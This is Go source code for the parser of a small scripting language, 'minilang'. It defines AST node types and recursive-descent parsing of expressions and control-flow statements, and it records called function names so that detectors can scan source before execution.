	return r == '_' || r == '.' || unicode.IsLetter(r) || unicode.IsDigit(r)
}
