package minilang

import "fmt"

// Node is an AST node.
type node interface{ line() int }

// ---- Expressions ----

type exprNode interface{ node }

type litExpr struct {
	ln  int
	val Value
}

func (e *litExpr) line() int { return e.ln }

type varExpr struct {
	ln   int
	name string
}

func (e *varExpr) line() int { return e.ln }

type listExpr struct {
	ln    int
	items []exprNode
}

func (e *listExpr) line() int { return e.ln }

type callExpr struct {
	ln   int
	name string
	args []exprNode
}

func (e *callExpr) line() int { return e.ln }

type indexExpr struct {
	ln    int
	base  exprNode
	index exprNode
}

func (e *indexExpr) line() int { return e.ln }

type binExpr struct {
	ln    int
	op    tokKind
	left  exprNode
	right exprNode
}

func (e *binExpr) line() int { return e.ln }

type notExpr struct {
	ln    int
	inner exprNode
}

func (e *notExpr) line() int { return e.ln }

// ---- Statements ----

type stmtNode interface{ node }

type assignStmt struct {
	ln   int
	name string
	expr exprNode
}

func (s *assignStmt) line() int { return s.ln }

type exprStmt struct {
	ln   int
	expr exprNode
}

func (s *exprStmt) line() int { return s.ln }

type forStmt struct {
	ln   int
	vari string
	iter exprNode
	body []stmtNode
}

func (s *forStmt) line() int { return s.ln }

type whileStmt struct {
	ln   int
	cond exprNode
	body []stmtNode
}

func (s *whileStmt) line() int { return s.ln }

type ifStmt struct {
	ln       int
	cond     exprNode
	then     []stmtNode
	elseBody []stmtNode
}

func (s *ifStmt) line() int { return s.ln }

type breakStmt struct{ ln int }

func (s *breakStmt) line() int { return s.ln }

// Program is a parsed minilang program.
type Program struct {
	stmts []stmtNode
	// Calls lists every function name invoked anywhere in the program,
	// in source order with duplicates — static signal for detectors
	// that scan cell source before execution.
	Calls []string
}

// parser consumes the token stream.
type parser struct {
	toks []token
	pos  int
	prog *Program
}

// Parse compiles source into a Program.
func Parse(src string) (*Program, error) {
	toks, err := lex(src)
	if err != nil {
		return nil, err
	}
	p := &parser{toks: toks, prog: &Program{}}
	stmts, err := p.block(tokEOF)
	if err != nil {
		return nil, err
	}
	p.prog.stmts = stmts
	return p.prog, nil
}

func (p *parser) peek() token { return p.toks[p.pos] }

func (p *parser) next() token {
	t := p.toks[p.pos]
	if t.kind != tokEOF {
		p.pos++
	}
	return t
}

func (p *parser) skipNewlines() {
	for p.peek().kind == tokNewline {
		p.pos++
	}
}

func (p *parser) expect(k tokKind, what string) (token, error) {
	t := p.next()
	if t.kind != k {
		return t, &SyntaxError{Line: t.line, Msg: fmt.Sprintf("expected %s, got %s", what, t)}
	}
	return t, nil
}

// block parses statements until one of the terminator kinds (which is
// not consumed, except tokEOF trivially).
func (p *parser) block(terminators ...tokKind) ([]stmtNode, error) {
	var stmts []stmtNode
	for {
		p.skipNewlines()
		t := p.peek()
		for _, term := range terminators {
			if t.kind == term {
				return stmts, nil
			}
		}
		if t.kind == tokEOF {
			return nil, &SyntaxError{Line: t.line, Msg: "unexpected end of input (missing 'end'?)"}
		}
		s, err := p.statement()
		if err != nil {
			return nil, err
		}
		stmts = append(stmts, s)
	}
}

func (p *parser) statement() (stmtNode, error) {
	t := p.peek()
	switch t.kind {
	case tokKwFor:
		return p.forStatement()
	case tokKwWhile:
		return p.whileStatement()
	case tokKwIf:
		return p.ifStatement()
	case tokKwBreak:
		p.next()
		return &breakStmt{ln: t.line}, nil
	case tokIdent:
		// Lookahead for assignment.
		if p.toks[p.pos+1].kind == tokAssign {
			name := p.next().text
			p.next() // '='
			e, err := p.expression()
			if err != nil {
				return nil, err
			}
			return &assignStmt{ln: t.line, name: name, expr: e}, nil
		}
		e, err := p.expression()
		if err != nil {
			return nil, err
		}
		return &exprStmt{ln: t.line, expr: e}, nil
	default:
		e, err := p.expression()
		if err != nil {
			return nil, err
		}
		return &exprStmt{ln: t.line, expr: e}, nil
	}
}

func (p *parser) forStatement() (stmtNode, error) {
	t := p.next() // for
	v, err := p.expect(tokIdent, "loop variable")
	if err != nil {
		return nil, err
	}
	if _, err := p.expect(tokKwIn, "'in'"); err != nil {
		return nil, err
	}
	iter, err := p.expression()
	if err != nil {
		return nil, err
	}
	body, err := p.block(tokKwEnd)
	if err != nil {
		return nil, err
	}
	p.next() // end
	return &forStmt{ln: t.line, vari: v.text, iter: iter, body: body}, nil
}

func (p *parser) whileStatement() (stmtNode, error) {
	t := p.next() // while
	cond, err := p.expression()
	if err != nil {
		return nil, err
	}
	body, err := p.block(tokKwEnd)
	if err != nil {
		return nil, err
	}
	p.next() // end
	return &whileStmt{ln: t.line, cond: cond, body: body}, nil
}

func (p *parser) ifStatement() (stmtNode, error) {
	t := p.next() // if
	cond, err := p.expression()
	if err != nil {
		return nil, err
	}
	then, err := p.block(tokKwEnd, tokKwElse)
	if err != nil {
		return nil, err
	}
	var elseBody []stmtNode
	if p.peek().kind == tokKwElse {
		p.next()
		elseBody, err = p.block(tokKwEnd)
		if err != nil {
			return nil, err
		}
	}
	p.next() // end
	return &ifStmt{ln: t.line, cond: cond, then: then, elseBody: elseBody}, nil
}

// expression := orExpr
func (p *parser) expression() (exprNode, error) { return p.orExpr() }

func (p *parser) orExpr() (exprNode, error) {
	left, err := p.andExpr()
	if err != nil {
		return nil, err
	}
	for p.peek().kind == tokKwOr {
		op := p.next()
		right, err := p.andExpr()
		if err != nil {
			return nil, err
		}
		left = &binExpr{ln: op.line, op: tokKwOr, left: left, right: right}
	}
	return left, nil
}

func (p *parser) andExpr() (exprNode, error) {
	left, err := p.cmpExpr()
	if err != nil {
		return nil, err
	}
	for p.peek().kind == tokKwAnd {
		op := p.next()
		right, err := p.cmpExpr()
		if err != nil {
			return nil, err
		}
		left = &binExpr{ln: op.line, op: tokKwAnd, left: left, right: right}
	}
	return left, nil
}

func (p *parser) cmpExpr() (exprNode, error) {
	left, err := p.addExpr()
	if err != nil {
		return nil, err
	}
	switch k := p.peek().kind; k {
	case tokEq, tokNeq, tokLt, tokGt, tokLe, tokGe:
		op := p.next()
		right, err := p.addExpr()
		if err != nil {
			return nil, err
		}
		return &binExpr{ln: op.line, op: k, left: left, right: right}, nil
	}
	return left, nil
}

func (p *parser) addExpr() (exprNode, error) {
	left, err := p.mulExpr()
	if err != nil {
		return nil, err
	}
	for {
		k := p.peek().kind
		if k != tokPlus && k != tokMinus {
			return left, nil
		}
		op := p.next()
		right, err := p.mulExpr()
		if err != nil {
			return nil, err
		}
		left = &binExpr{ln: op.line, op: k, left: left, right: right}
	}
}

func (p *parser) mulExpr() (exprNode, error) {
	left, err := p.unary()
	if err != nil {
		return nil, err
	}
	for {
		k := p.peek().kind
		if k != tokStar && k != tokSlash && k != tokPercent {
			return left, nil
		}
		op := p.next()
		right, err := p.unary()
		if err != nil {
			return nil, err
		}
		left = &binExpr{ln: op.line, op: k, left: left, right: right}
	}
}

func (p *parser) unary() (exprNode, error) {
	t := p.peek()
	switch t.kind {
	case tokKwNot:
		p.next()
		inner, err := p.unary()
		if err != nil {
			return nil, err
		}
		return &notExpr{ln: t.line, inner: inner}, nil
	case tokMinus:
		p.next()
		inner, err := p.unary()
		if err != nil {
			return nil, err
		}
		return &binExpr{ln: t.line, op: tokMinus,
			left: &litExpr{ln: t.line, val: Number(0)}, right: inner}, nil
	}
	return p.postfix()
}

func (p *parser) postfix() (exprNode, error) {
	base, err := p.primary()
	if err != nil {
		return nil, err
	}
	for p.peek().kind == tokLBracket {
		lb := p.next()
		idx, err := p.expression()
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(tokRBracket, "']'"); err != nil {
			return nil, err
		}
		base = &indexExpr{ln: lb.line, base: base, index: idx}
	}
	return base, nil
}

func (p *parser) primary() (exprNode, error) {
	t := p.next()
	switch t.kind {
	case tokString:
		return &litExpr{ln: t.line, val: Str(t.text)}, nil
	case tokNumber:
		return &litExpr{ln: t.line, val: Number(t.num)}, nil
	case tokLParen:
		e, err := p.expression()
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(tokRParen, "')'"); err != nil {
			return nil, err
		}
		return e, nil
	case tokLBracket:
		var items []exprNode
		p.skipNewlines()
		if p.peek().kind != tokRBracket {
			for {
				e, err := p.expression()
				if err != nil {
					return nil, err
				}
				items = append(items, e)
				p.skipNewlines()
				if p.peek().kind != tokComma {
					break
				}
				p.next()
				p.skipNewlines()
			}
		}
		if _, err := p.expect(tokRBracket, "']'"); err != nil {
			return nil, err
		}
		return &listExpr{ln: t.line, items: items}, nil
	case tokIdent:
		if p.peek().kind == tokLParen {
			p.next() // (
			var args []exprNode
			p.skipNewlines()
			if p.peek().kind != tokRParen {
				for {
					e, err := p.expression()
					if err != nil {
						return nil, err
					}
					args = append(args, e)
					p.skipNewlines()
					if p.peek().kind != tokComma {
						break
					}
					p.next()
					p.skipNewlines()
				}
			}
			if _, err := p.expect(tokRParen, "')'"); err != nil {
				return nil, err
			}
			p.prog.Calls = append(p.prog.Calls, t.text)
			return &callExpr{ln: t.line, name: t.text, args: args}, nil
		}
		return &varExpr{ln: t.line, name: t.text}, nil
	default:
		return nil, &SyntaxError{Line: t.line, Msg: "unexpected " + t.String()}
	}
}
